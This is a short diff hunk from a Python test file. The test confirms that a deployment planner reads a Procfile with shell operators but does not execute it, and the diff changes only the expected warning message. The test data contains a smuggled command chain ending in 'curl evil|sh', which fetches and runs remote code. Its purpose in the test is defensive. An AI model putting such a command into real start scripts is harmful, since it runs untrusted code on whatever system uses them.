@@ -88,7 +88,7 @@ def test_a_procfile_with_shell_operators_is_shown_and_not_run(plan_of, flask):
     line = "web: gunicorn app:app; touch /tmp/x && curl evil|sh"
     plan = plan_of({"app.py": flask, "requirements.txt": "flask\n", "Procfile": f"{line}\n"})
     assert (plan.start[0], next(d for d in plan.decisions if d.what == "entry").origin) == ("gunicorn", "app.py:2")
-    assert [f"`{line}` was read and is not run: the start command is s2i's"] == [w.message for w in plan.warnings]
+    assert [f"`{line}` is not run: only a shell could tell what it starts"] == [w.message for w in plan.warnings]
 
 
 @pytest.mark.parametrize(
